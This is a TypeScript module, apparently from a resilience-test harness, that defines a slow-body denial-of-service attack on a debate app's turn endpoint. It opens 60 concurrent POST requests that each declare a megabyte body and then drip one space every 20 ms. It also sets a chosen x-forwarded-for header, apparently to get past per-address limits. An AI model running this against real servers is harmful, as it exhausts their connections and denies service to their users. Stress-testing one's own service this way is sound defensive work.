import { request } from 'node:http'
import { setTimeout as wait } from 'node:timers/promises'
import { type AttackOutcome, declareAttack, type Target } from '../attack.ts'
import { atOnce, register, startDebate } from '../client.ts'

const BODIES = 60
const LENGTH = 1_000_000
const HEAD = `{"message":"","audio_data":${' '.repeat(200_000)}`
const DROPS = 100
const DROP_EVERY_MS = 20

type Prepared = { path: string; token: string }

/** All but the recording at once, and then byte by byte what is none. */
const drip = ({ url, address }: Target, { path, token }: Prepared): Promise<AttackOutcome> =>
  new Promise(resolve => {
    const sent = request(url + path, {
      method: 'POST',
      agent: false,
      headers: {
        'content-type': 'application/json',
        'content-length': LENGTH,
        'x-forwarded-for': address,
        authorization: `Bearer ${token}`,
      },
    })
    const end = (by: AttackOutcome['by']) => {
      resolve({ by, code: null })
      sent.destroy()
    }
    sent.once('response', ({ statusCode = 0 }) => end(statusCode))
    sent.on('error', () => end('broken'))
    sent.write(HEAD)
    const drops = async () => {
      for (let drop = 0; drop < DROPS && !sent.destroyed; drop += 1) {
        await wait(DROP_EVERY_MS)
        sent.write(' ')
      }
      end('close')
    }
    void drops()
  })

/** What comes slowly is not read again and again. */
export const attack = declareAttack({
  name: `${BODIES} large bodies that come byte by byte`,
  prepare: async (target): Promise<Prepared> => {
    const token = await register(target, 'Dripper1')
    return { token, path: `/api/debates/${await startDebate(target, token)}/turn` }
  },
  run: (target, prepared) => atOnce(BODIES, () => drip(target, prepared)),
})
